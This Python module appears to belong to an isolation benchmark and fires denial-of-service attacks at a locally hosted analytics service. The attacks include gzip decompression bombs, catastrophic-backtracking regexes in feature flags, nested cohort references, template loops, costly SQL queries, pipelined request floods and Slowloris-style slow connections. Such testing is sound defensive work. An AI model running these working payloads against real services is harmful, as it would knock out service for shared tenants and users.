"""Attacks on what all projects share in a process: the event loop, the queues, memory."""

import asyncio
import base64
import gzip
import json
import re
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Any

import httpx

from benchmarks.isolation.installation import TIMEOUT_S, Refused, World

SLOW_CONNECTIONS = 400
LEVELS, REFERENCES = 11, 4
FLOOD_PIPELINE = 16
MANY_PERSONS, BATCH_SIZE = 20_000, 1_000

Attack = Callable[[World], Awaitable[Any]]


async def attack_nested_cohorts(world: World) -> None:
    cohort_id = await create_nested_cohorts(world)
    group = {"properties": [{"key": "id", "type": "cohort", "value": cohort_id}]}
    await world.create(
        "feature_flags", {"key": f"nested-{cohort_id}", "filters": {"groups": [group]}}
    )
    await repeat(lambda: decide(world, world.key), copies=2)


async def attack_nested_cohorts_in_queries(world: World) -> None:
    cohort_id = await create_nested_cohorts(world)
    sql = f"select count() from events where person_id in cohort {cohort_id}"
    await repeat(lambda: query(world, sql), copies=3)


async def create_nested_cohorts(world: World) -> int:
    leaf: dict[str, Any] = {"key": "plan", "type": "person", "value": ["a"], "operator": "exact"}
    values = [leaf] * REFERENCES
    cohort_id = 0
    for level in range(LEVELS):
        group = {"type": "OR", "values": [{"type": "OR", "values": values}]}
        body = {"name": f"level {level}", "filters": {"properties": group}}
        cohort_id = int((await world.create("cohorts", body))["id"])
        values = [{"key": "id", "type": "cohort", "value": cohort_id}] * REFERENCES
    return cohort_id


async def attack_look_around(world: World) -> None:
    groups = [
        {
            "properties": [
                {
                    "key": "text",
                    "type": "person",
                    "operator": "regex",
                    "value": f"(?!{number})(a|aa)+c$",
                }
            ]
        }
        for number in range(100)
    ]
    await world.create("feature_flags", {"key": "look-around", "filters": {"groups": groups}})
    await repeat(lambda: decide(world, world.key, text="a" * 200), copies=4)


async def attack_bombs(world: World, key: str) -> None:
    objects = b",".join([b"{}"] * 990_000)
    head = b'{"api_key":"%s",' % key.encode() if key else b"{"
    body = gzip.compress(head + b'"batch":[' + objects + b"]}")
    await repeat(
        lambda: world.send("POST", "/batch/", content=body, headers={"content-encoding": "gzip"}),
        copies=10,
    )


async def attack_blanks(world: World) -> None:
    body = base64.b64encode(gzip.compress(b" " * 90_000_000))
    await repeat(lambda: world.send("POST", "/e/", data={"data": body.decode()}), copies=10)


async def attack_unpacked_values(world: World) -> None:
    body = b'{"api_key":"%s","batch":[%s]}' % (world.key.encode(), b",".join([b"1"] * 5_000_000))
    await repeat(lambda: world.send("POST", "/batch/", content=body), copies=4)


async def attack_templates(world: World) -> None:
    template = {"size": "{{ (1..10000000) | join: '' | size }}"}
    record = await world.create("pipeline_destination_configs", {"plugin": 1})
    path = f"/api/projects/1/pipeline_destination_configs/{record['id']}/"
    config = {"url": "https://example.com/hook", "body": template}
    if (response := await world.client.put(f"{path}config/", json=config)).is_error:
        raise Refused(f"{response.status_code} {response.text[:160]}")
    await repeat(lambda: world.send("POST", f"{path}test/", json={}), copies=4)


async def attack_large_answers(world: World) -> None:
    await repeat(lambda: query(world, "select arrayMap(x -> range(10000), range(3000))"), copies=3)


async def attack_slow_functions(world: World) -> None:
    text = "concat(repeat('ab', 32000), toString(n))"
    distance = f"editDistance({text}, repeat('ba', 32000))"
    sql = f"select arrayMap(n -> {distance}, range(1000))"
    await repeat(lambda: query(world, sql), copies=3)


async def attack_flood(world: World) -> None:
    """Pipelined requests over few connections, without the cost of an HTTP client."""
    requests = build_decide_request(world.key) * FLOOD_PIPELINE

    async def send() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", world.port)
        try:
            while True:
                writer.write(requests)
                for _ in range(FLOOD_PIPELINE):
                    count_status(world, await read_response(reader))
        finally:
            writer.close()

    await repeat(lambda: ignore_errors(send), copies=16)


async def attack_reconnects(world: World) -> None:
    """A new connection for each request."""
    request = build_decide_request(world.key, "connection: close\r\n")

    async def send() -> None:
        reader, writer = await asyncio.open_connection("127.0.0.1", world.port)
        try:
            writer.write(request)
            count_status(world, await reader.read())
        finally:
            writer.close()

    await repeat(lambda: ignore_errors(send), copies=64)


async def attack_changes(world: World) -> None:
    """Changes of one project, which wait for each other."""
    names = iter(range(1_000_000))
    await repeat(
        lambda: world.send(
            "POST",
            "/api/projects/1/feature_flags/",
            json={"key": f"flag-{next(names)}", "filters": {"groups": [{"properties": []}]}},
        ),
        copies=64,
    )


def build_decide_request(key: str, more_headers: str = "") -> bytes:
    body = json.dumps({"api_key": key, "distinct_id": "ann"})
    head = f"POST /decide/?v=3 HTTP/1.1\r\nhost: x\r\ncontent-length: {len(body)}\r\n"
    return f"{head}{more_headers}\r\n{body}".encode()


async def read_response(reader: asyncio.StreamReader) -> bytes:
    head = await reader.readuntil(b"\r\n\r\n")
    length = re.search(rb"content-length: (\d+)", head, re.IGNORECASE)
    await reader.readexactly(int(length[1]) if length else 0)
    return head


def count_status(world: World, response: bytes) -> None:
    world.answers[response[9:12].decode() or "closed"] += 1


async def ignore_errors(send: Callable[[], Awaitable[None]]) -> None:
    with suppress(OSError, asyncio.IncompleteReadError):
        await send()


async def attack_streams(world: World) -> None:
    path = "/api/projects/1/feature_flags/stream/"

    async def listen() -> None:
        with suppress(httpx.HTTPError):
            async with world.client.stream("GET", path) as response:
                world.answers[str(response.status_code)] += 1
                if response.status_code == 200:
                    await asyncio.sleep(TIMEOUT_S)

    await repeat(listen, copies=150)


async def attack_exports(world: World) -> None:
    await capture_persons(world)
    await repeat(
        lambda: world.send("GET", "/api/projects/1/events/", params={"format": "csv"}), copies=8
    )


async def attack_metrics(world: World) -> None:
    """Without a key."""
    await repeat(lambda: world.send("GET", "/metrics"), copies=400)


async def attack_what_if(world: World) -> None:
    await capture_persons(world)
    group = {"properties": [{"key": "n", "type": "person", "operator": "gt", "value": "9"}]}
    body = {"key": "draft", "filters": {"groups": [group]}}
    await repeat(
        lambda: world.send("POST", "/api/projects/1/feature_flags/what_if/", json=body), copies=8
    )


async def capture_persons(world: World) -> None:
    """Store events of many persons."""
    for start in range(0, MANY_PERSONS, BATCH_SIZE):
        events = [
            {"event": "seen", "distinct_id": f"p{number}", "properties": {"$set": {"n": number}}}
            for number in range(start, start + BATCH_SIZE)
        ]
        body = {"api_key": world.key, "batch": events}
        response = await world.client.post("/batch/", json=body)
        if response.is_error:
            raise Refused(f"{response.status_code} {response.text[:160]}")


async def attack_slow_connections(world: World) -> None:
    """Connections that send one header byte a second."""
    writers = []
    for _ in range(SLOW_CONNECTIONS):
        with suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", world.port)
            writers.append(writer)
    world.answers["connections"] = len(writers)
    try:
        while True:
            for writer in writers:
                with suppress(OSError):
                    writer.write(b"P")
            await asyncio.sleep(1)
    finally:
        for writer in writers:
            writer.close()


ATTACKS: dict[str, Attack] = {
    "flood": attack_flood,
    "reconnects": attack_reconnects,
    "changes": attack_changes,
    "cohorts": attack_nested_cohorts,
    "cohorts-query": attack_nested_cohorts_in_queries,
    "look-around": attack_look_around,
    "bomb-no-key": lambda world: attack_bombs(world, ""),
    "bomb-unknown-key": lambda world: attack_bombs(world, "phc_unknown"),
    "bomb-valid-key": lambda world: attack_bombs(world, world.key),
    "blanks": attack_blanks,
    "values": attack_unpacked_values,
    "templates": attack_templates,
    "large-answers": attack_large_answers,
    "slow-functions": attack_slow_functions,
    "streams": attack_streams,
    "exports": attack_exports,
    "metrics": attack_metrics,
    "what-if": attack_what_if,
    "slow-connections": attack_slow_connections,
}


async def repeat(send: Callable[[], Awaitable[Any]], copies: int, *, pause_s: float = 0.0) -> None:
    async def loop() -> None:
        while True:
            await send()
            await asyncio.sleep(pause_s)

    async with asyncio.TaskGroup() as tasks:
        for _ in range(copies):
            tasks.create_task(loop())


async def decide(world: World, key: str, **properties: str) -> None:
    body = {"api_key": key, "distinct_id": "ann", "person_properties": properties}
    await world.send("POST", "/decide/?v=3", json=body)


async def query(world: World, sql: str) -> None:
    body = {"query": {"kind": "HogQLQuery", "query": sql}, "refresh": "force_blocking"}
    await world.send("POST", "/api/projects/1/query/", json=body)
